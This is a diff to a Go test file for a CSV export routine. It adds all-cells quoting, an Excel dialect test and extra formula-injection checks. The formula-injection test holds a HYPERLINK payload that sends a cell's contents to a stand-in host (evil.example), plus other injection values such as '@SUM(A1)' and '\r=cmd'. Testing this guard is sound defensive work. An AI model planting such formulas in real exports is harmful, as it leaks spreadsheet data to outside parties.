@@ -2,10 +2,13 @@ package catalogue
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"reflect"
 	"strings"
 	"testing"
+
+	"github.com/mentorhub/mentorhub/internal/tabular"
 )
 
 // withoutLines returns a copy of rows with Line zeroed.
@@ -27,12 +30,30 @@ func writeCSV(t *testing.T, rows []Row) []byte {
 	return buf.Bytes()
 }
 
+// quotedLines is CSV text with the cells of every line but the first
+// quoted, as WriteCSV writes them.
+func quotedLines(t *testing.T, text string) string {
+	t.Helper()
+	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := strings.SplitAfter(text, "\n")[0]
+	for _, rec := range recs[1:] {
+		for i, c := range rec {
+			rec[i] = `"` + strings.ReplaceAll(c, `"`, `""`) + `"`
+		}
+		out += strings.Join(rec, ",") + "\n"
+	}
+	return out
+}
+
 func TestWriteSampleIsCanonical(t *testing.T) {
 	sample := readSample(t)
 	rows, _ := mustParse(t, string(sample))
 	out := writeCSV(t, rows)
-	if !bytes.Equal(out, sample) {
-		t.Errorf("WriteCSV(Parse(sample)) differs from the sample:\n%s", out)
+	if want := quotedLines(t, string(sample)); string(out) != want {
+		t.Errorf("WriteCSV(Parse(sample)) differs from the sample with every data cell quoted:\n%s", out)
 	}
 	again, _ := mustParse(t, string(out))
 	if !reflect.DeepEqual(again, rows) {
@@ -45,7 +66,7 @@ func TestRoundTripNormalises(t *testing.T) {
 		"CLOSED;p1;Uni;faculty;\"Name; \"\"quoted\"\"\nsecond line\";first_year;open_dropin;ALUMNI|external;ja;opt_in;nei;2015;2016;;010 - 12;5|1;02;1 200;HTTPS://uib.no/a?b=c\r\n"
 	rows, _ := mustParse(t, in)
 	out := writeCSV(t, rows)
-	want := header + "p1,Uni,,faculty,\"Name; \"\"quoted\"\"\nsecond line\",first_year,open_dropin,alumni|external,true,opt_in,,false,10-12,2,1200,2015,2016,,closed,,,HTTPS://uib.no/a?b=c,1|5\n"
+	want := quotedLines(t, header+"p1,Uni,,faculty,\"Name; \"\"quoted\"\"\nsecond line\",first_year,open_dropin,alumni|external,true,opt_in,,false,10-12,2,1200,2015,2016,,closed,,,HTTPS://uib.no/a?b=c,1|5\n")
 	if string(out) != want {
 		t.Errorf("got\n%s\nwant\n%s", out, want)
 	}
@@ -66,8 +87,8 @@ func TestFormulaInjection(t *testing.T) {
 	out := string(writeCSV(t, rows))
 	for _, want := range []string{
 		`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
-		",'+47 55 00 00 00,", ",'-- none --,", ",'@SUM(A1),", ",''=already quoted,",
-		",10-12,", // our own formats are untouched
+		`,"'+47 55 00 00 00",`, `,"'-- none --",`, `,"'@SUM(A1)",`, `,"''=already quoted",`,
+		`,"10-12",`, // our own formats are untouched
 	} {
 		if !strings.Contains(out, want) {
 			t.Errorf("missing %s in\n%s", want, out)
@@ -76,6 +97,15 @@ func TestFormulaInjection(t *testing.T) {
 	back, _ := mustParse(t, out)
 	if !reflect.DeepEqual(withoutLines(back), withoutLines(rows)) {
 		t.Errorf("got %+v\nwant %+v", back[0], rows[0])
+	}
+	// A cell starting with TAB or CR is guarded too: a spreadsheet may
+	// drop the white space and run what follows.
+	rows[0].Funding, rows[0].EndReason = "\t=1+1", "\r=cmd"
+	out = string(writeCSV(t, rows))
+	for _, want := range []string{",\"'\t=1+1\",", ",\"'\r=cmd\","} {
+		if !strings.Contains(out, want) {
+			t.Errorf("missing %q in\n%q", want, out)
+		}
 	}
 	// A cell typed by hand with the guard quote is read without it.
 	in := strings.Replace(string(readSample(t)), "Faculty of Law", "'-Faculty of Law", 1)
@@ -138,5 +168,39 @@ column ended: must not be before started (2021), not 2020
 column ended: ended is only for closed programs (status is active)`
 	if got := FormatDetails(ds); got != want {
 		t.Errorf("got\n%s", got)
+	}
+}
+
+// TestWriteCSVForExcel writes the Excel dialect: a BOM, semicolons, every
+// data cell quoted; encoding/csv reads it with Comma ';' and Parse reads it
+// back to the same rows.
+func TestWriteCSVForExcel(t *testing.T) {
+	rows, _ := mustParse(t, string(readSample(t)))
+	rows[0].Name = "Mentorer; 50,5 % =alle"
+	var buf bytes.Buffer
+	if err := WriteCSVDialect(&buf, rows, tabular.ExcelDialect); err != nil {
+		t.Fatal(err)
+	}
+	out, ok := strings.CutPrefix(buf.String(), "\uFEFF")
+	if !ok {
+		t.Fatalf("no BOM: %.80q", buf.String())
+	}
+	if !strings.HasPrefix(out, strings.Join(Columns, ";")+"\n") {
+		t.Errorf("header: %.300s", out)
+	}
+	cr := csv.NewReader(strings.NewReader(out))
+	cr.Comma = ';'
+	recs, err := cr.ReadAll()
+	if err != nil || len(recs) != len(rows)+1 || recs[1][4] != rows[0].Name {
+		t.Fatalf("read with ';': %v %q", err, recs)
+	}
+	for _, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n")[1:] {
+		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) || strings.Count(line, `";"`) != len(Columns)-1 {
+			t.Errorf("a cell is not quoted: %s", line)
+		}
+	}
+	back, _ := mustParse(t, buf.String())
+	if !reflect.DeepEqual(withoutLines(back), withoutLines(rows)) {
+		t.Errorf("round trip: got %+v", back[0])
 	}
 }
